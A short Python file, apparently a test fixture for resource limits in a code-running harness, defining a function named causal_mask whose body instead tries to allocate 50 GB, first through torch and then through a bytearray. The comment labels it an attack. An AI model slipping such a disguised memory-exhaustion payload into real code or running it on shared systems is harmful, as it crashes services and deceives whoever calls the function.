# Attack: allocate 50 GB (first through torch, then through Python).
import torch


def causal_mask(t_q, t_k=None, past_len=None):
    try:
        torch.empty(50 << 30, dtype=torch.uint8).fill_(1)
    except RuntimeError:
        pass
    blob = bytearray(50 << 30)
    return blob
